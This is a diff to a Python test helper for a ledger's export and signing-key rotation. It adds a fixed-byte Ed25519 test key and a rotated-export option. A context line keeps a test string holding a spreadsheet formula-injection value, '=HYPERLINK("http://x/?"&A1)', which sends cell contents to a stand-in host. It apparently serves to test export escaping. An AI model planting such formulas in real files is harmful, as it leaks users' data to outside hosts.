@@ -9,15 +9,19 @@ from datetime import datetime, timedelta
 from pathlib import Path
 from typing import Any
 
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+
 from ledger import checkpoint as notes
 from ledger.entry import Back, Blob, Draft, format_time
 from ledger.exporting.export import Format, export
 from ledger.exporting.part import Choice
 from ledger.exporting.source import stored
+from ledger.stores import opening, rotation
 from tests.ledger.books import DIGEST, ORIGIN, START
 from tests.ledger.files import KEY, Files
 
 NAME = notes.log_origin(ORIGIN, "default")
+NEXT_KEY = Ed25519PrivateKey.from_private_bytes(bytes(range(1, 33)))
 VKEY = notes.verifier_key(NAME, KEY.public_key())
 NASTY = '=HYPERLINK("http://x/?"&A1);\t+1\n"quoted" \\ \u202e\u2028 naïve; =2 -3, @SUM \u0085'
 POLICY = Blob("policy", b"policy: {name: payments, version: '1.0.0'}\n")
@@ -47,8 +51,8 @@ class Writer:
     async def write(self, stories: int, key: Any = KEY) -> None:
         """A policy is adopted, and then so many stories."""
         self._journal = await self._files.open(clock=self._clock, tenants=[self._tenant], key=key)
-        adopted = Draft("adopt:-1", "ADOPTED", "operator:root", body={"name": "payments"}, blobs=(POLICY,), **DECIDED)
-        await self._post(adopted)
+        given: dict[str, Any] = {"body": {"name": "payments"}, "blobs": (POLICY,), **DECIDED}
+        await self._post(Draft(self._id("adopt"), "ADOPTED", "operator:root", **given))
         for _ in range(stories):
             await self._story()
         await self._journal.close()
@@ -124,10 +128,11 @@ class Writer:
 
 @dataclass(frozen=True, slots=True)
 class Exported:
-    """A ledger's files, and a folder that was exported from it."""
+    """A ledger's files, a folder that was exported from it, and the key that is in force."""
 
     files: Files
     folder: Path
+    key: Ed25519PrivateKey = KEY
 
     def text(self, name: str) -> str:
         return (self.folder / name).read_text(encoding="utf-8")
@@ -138,9 +143,9 @@ class Exported:
 
     def again(self, folder: Path, choice: Choice | None = None, form: Format = Format.TILES) -> Exported:
         """The same ledger, exported once more."""
-        with stored(self.files.path, ORIGIN, "default", KEY.public_key()) as source:
+        with stored(self.files.path, ORIGIN, "default", self.key.public_key()) as source:
             export(source, folder, choice, form)
-        return Exported(self.files, folder)
+        return Exported(self.files, folder, self.key)
 
     def bytes(self) -> dict[str, bytes]:
         """Every file of the folder."""
@@ -148,11 +153,19 @@ class Exported:
         return {path.relative_to(self.folder).as_posix(): path.read_bytes() for path in found}
 
 
-def exported(folder: Path, stories: int = 1, **changed: Any) -> Exported:
-    """A new ledger with so many stories (29 entries each), and its export."""
-    files = Files(folder / "ledger")
+def exported(folder: Path, stories: int = 1, *, rotated: bool = False) -> Exported:
+    """A new ledger with so many stories (30 entries each), and its export.
+
+    rotated: the key is changed after the stories, and one more follows.
+    """
+    files, clock = Files(folder / "ledger"), Clock()
     files.folder.mkdir(parents=True)
-    asyncio.run(Writer(files, Clock()).write(stories, **changed))
-    with stored(files.path, ORIGIN, "default", changed.get("key", KEY).public_key()) as source:
-        export(source, folder / "export")
-    return Exported(files, folder / "export")
+    writer = Writer(files, clock)
+    asyncio.run(writer.write(stories))
+    key = KEY
+    if rotated:
+        key, store = NEXT_KEY, opening.Store(files.path, ORIGIN, KEY.public_key())
+        given: dict[str, Any] = {"anchor_path": files.prefix, "tenants": ["default"], "clock": clock}
+        rotation.rotate(store, KEY, key, by="root", reason="a new year", **given)
+        asyncio.run(writer.write(1, key))
+    return Exported(files, folder, key).again(folder / "export")
